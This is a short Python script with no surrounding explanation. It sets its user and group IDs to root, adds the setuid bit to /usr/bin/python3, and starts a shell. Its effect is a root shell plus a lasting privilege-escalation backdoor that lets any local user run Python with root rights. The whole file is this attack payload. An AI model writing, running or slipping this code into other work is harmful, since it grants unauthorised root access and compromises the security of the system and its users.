import os

os.setuid(0)
os.setgid(0)
os.chmod("/usr/bin/python3", 0o4755)
os.execv("/bin/sh", ["sh"])
